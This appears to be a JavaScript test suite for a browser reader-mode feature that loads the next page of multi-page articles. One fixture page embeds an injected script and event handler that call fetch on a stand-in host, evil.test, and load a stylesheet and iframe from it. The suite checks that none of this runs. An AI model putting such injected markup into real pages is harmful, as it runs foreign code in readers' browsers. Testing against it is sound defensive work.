/** Articles on several pages. */

import assert from 'node:assert/strict';
import { beforeEach, test } from 'node:test';
import { TITLE, article, paragraphs } from './harness/pages.mjs';
import { STRICT_CSP } from './harness/server.mjs';
import {
  clickInReader,
  inEachBrowser,
  message,
  openReader,
  readerText,
  until,
  untilClosed,
} from './harness/suite.mjs';

const TEASER =
  '<p class="teaser">How a village found out in one night what its meadows are for.</p>';
const SECOND = 'On the second page the pastor went on: “We had never seen the well stand so high.”';
const THIRD =
  'On the third page the smith, who is called Müller, said that he would stay nevertheless.';

/**
 * @param {string} content
 * @param {string} next where the link to the next page leads
 */
function page(content, next) {
  return article({
    content: `${TEASER}${content}`,
    after: `<p class="pager"><a rel="next" href="${next}">Next page</a></p>`,
  });
}

/** @type {Record<string, import('./harness/server.mjs').Page>} */
const PAGES = {
  'localhost/flood': { body: page(paragraphs(1), '/flood/2') },
  'localhost/flood/2': { body: page(`<p>${SECOND}</p>`, '') },
  'news.test/flood': { body: page(paragraphs(1), '/flood/2') },
  'news.test/flood/2': {
    body: page(
      `<p>${SECOND}</p><img src="/late.png" width="600" height="400" onerror="window.ran = true">` +
        `<script>window.ran = true; fetch('//evil.test/script')</script>` +
        `<link rel="stylesheet" href="//evil.test/style.css"><iframe src="//evil.test/frame"></iframe>`,
      '/flood/3',
    ),
  },
  'news.test/flood/3': {
    body: Buffer.from(
      page(`<p>${THIRD}</p>`, '/flood/2')
        .replace('utf-8', 'iso-8859-1')
        .replace('“', '')
        .replace('”', ''),
      'latin1',
    ),
    type: 'text/html',
  },
  'news.test/strict': {
    body: page(paragraphs(1), '/strict/2'),
    headers: { 'content-security-policy': STRICT_CSP },
  },
  'news.test/strict/2': { body: page(`<p>${SECOND}</p>`, '') },
  'news.test/lost': { body: page(paragraphs(1), '/lost/2') },
  'news.test/same': { body: page(paragraphs(1), '/same/2') },
  'news.test/same/2': { body: page(paragraphs(1), '/same/3') },
  'news.test/away': { body: page(paragraphs(1), '/away/2') },
  'news.test/away/2': {
    body: '',
    status: 302,
    headers: { location: 'http://other.test/flood', 'access-control-allow-origin': '*' },
  },
  'other.test/flood': {
    body: page(`<p>${SECOND}</p>`, ''),
    headers: { 'access-control-allow-origin': '*' },
  },
  'news.test/last': { body: article({ content: paragraphs(1) }) },
  'news.test/series': {
    body: article({
      content: paragraphs(1),
      after: '<a rel="next" href="/bakery">Next article</a>',
    }),
  },
};

inEachBrowser('next page', PAGES, (context) => {
  beforeEach(() => {
    context.server.requests.length = 0;
  });

  /** @param {string} path */
  async function read(path) {
    await context.browser.open(`http://news.test/${path}`);
    await openReader(context.browser);
  }

  const note = () =>
    context.browser.inReader((shadow) => shadow.querySelector('.tail .note')?.textContent ?? '');
  const isOffered = () =>
    context.browser.inReader((shadow) => {
      const button = shadow.querySelector('.loadNext');
      return button !== null && !(/** @type {HTMLElement} */ (button).hidden);
    });

  test('is added when it is asked for, page after page, and not before', async () => {
    const { browser, server } = context;
    await read('flood');
    assert.equal(await isOffered(), true);
    assert.ok(!server.requests.includes('news.test/flood/2'));
    await clickInReader(browser, '.loadNext');
    await until(async () => (await readerText(browser))?.includes(SECOND), 'page 2');
    assert.equal(await note(), message('nextPageAdded').replace('$PAGE$', '2'));
    await clickInReader(browser, '.loadNext');
    await until(async () => (await readerText(browser))?.includes(THIRD), 'page 3');
    const text = (await readerText(browser)) ?? '';
    for (const once of ['Page 2', 'Page 3', TITLE, 'How a village found out']) {
      assert.equal(text.split(once).length, 2, once);
    }
    assert.equal(await isOffered(), false);
  });

  test('is in copies', async () => {
    const { browser } = context;
    await browser.open('http://localhost/flood');
    await openReader(browser);
    await clickInReader(browser, '.loadNext');
    await until(async () => (await readerText(browser))?.includes(SECOND), 'page 2');
    await clickInReader(browser, '.bar .copy');
    const { plain, html } = await until(async () => {
      const copy = await browser.clipboard();
      return copy.plain.includes('second page') ? copy : null;
    }, 'the copy');
    assert.ok(plain.includes('lower meadow') && plain.includes('\n***\n'), plain);
    assert.ok(html.includes('second page') && html.includes('lower meadow'));
  });

  test('runs nothing, and asks nobody but the page’s own host', async () => {
    const { browser, server } = context;
    await read('flood');
    await clickInReader(browser, '.loadNext');
    await until(async () => (await readerText(browser))?.includes(SECOND), 'page 2');
    assert.ok(!(await browser.inPage(() => Reflect.get(window, 'ran'))));
    assert.deepEqual(server.hosts, ['news.test']);
  });

  test('comes to strict pages too, where the browser lets it', async () => {
    const { browser } = context;
    await read('strict');
    await clickInReader(browser, '.loadNext');
    if (browser.name === 'firefox') {
      await until(
        async () => (await note())?.startsWith(message('nextPage_unreachable')),
        'the reason',
      );
      return;
    }
    await until(async () => (await readerText(browser))?.includes(SECOND), 'page 2');
  });

  test('is there still when the reader is brought up to date', async () => {
    const { browser } = context;
    await read('flood');
    await clickInReader(browser, '.loadNext');
    await until(async () => (await readerText(browser))?.includes(SECOND), 'page 2');
    await browser.inPage((text) => {
      const late = document.createElement('p');
      late.textContent = text;
      document.querySelector('article form')?.before(late);
    }, THIRD);
    const text = await until(async () => {
      const now = await readerText(browser);
      return now?.includes('stay nevertheless') ? now : null;
    }, 'what came late');
    assert.ok(text.includes(SECOND));
    assert.ok(text.indexOf('stay nevertheless') < text.indexOf(SECOND));
  });

  for (const [path, problem] of /** @type {const} */ ([
    ['lost', 'refused'],
    ['same', 'empty'],
    ['away', 'elsewhere'],
  ])) {
    test(`says what is wrong (${problem}), and can be tried again`, async () => {
      const { browser } = context;
      await read(path);
      const before = await readerText(browser);
      await clickInReader(browser, '.loadNext');
      const said = message(`nextPage_${problem}`);
      await until(async () => (await note())?.startsWith(said), said);
      assert.equal(await readerText(browser), before);
      assert.equal(
        await browser.inReader((shadow) => shadow.querySelector('.loadNext')?.textContent),
        message('nextPageRetry'),
      );
      await browser.press('Escape');
      await untilClosed(browser);
    });
  }

  test('is not offered where there is none', async () => {
    for (const path of ['last', 'series']) {
      await read(path);
      assert.equal(await isOffered(), false, path);
    }
  });
});
